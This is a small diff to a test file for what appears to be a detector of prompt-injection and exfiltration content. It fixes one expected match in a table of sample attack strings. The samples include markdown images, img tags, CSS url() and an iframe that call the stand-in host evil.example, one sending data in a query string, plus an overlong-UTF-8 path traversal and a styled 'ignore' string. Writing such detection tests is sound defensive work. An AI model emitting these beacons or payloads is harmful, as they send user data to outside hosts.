@@ -129,7 +129,7 @@ def test_few_words_are_no_overlap_and_no_text_is_kept() -> None:
         ("deceit.styled", "ｉｇｎｏｒｅ", "ｉｇｎｏｒｅ"),
         ("deceit.encoding", "GET /..%c0%af..", "%c0%af"),
         ("deceit.encoding", "a\x00b", "\x00"),
-        ("exfiltration.image", "see ![x](https://evil.example/p?d=42) ok", "![x](https://evil.example/p?d=42"),
+        ("exfiltration.image", "see ![x](https://evil.example/p?d=42) ok", "![x](https://evil.example/p?d=42)"),
         ("exfiltration.image", '<img alt=1 src="//evil.example/a.png">', '<img alt=1 src="//evil.example/a.png'),
         ("exfiltration.html", "<style>x{background:url(https://evil.example/a)}", "url(https://evil.example/a"),
         ("exfiltration.html", "<iframe src='http://evil.example'>", "<iframe src='http://evil.example"),
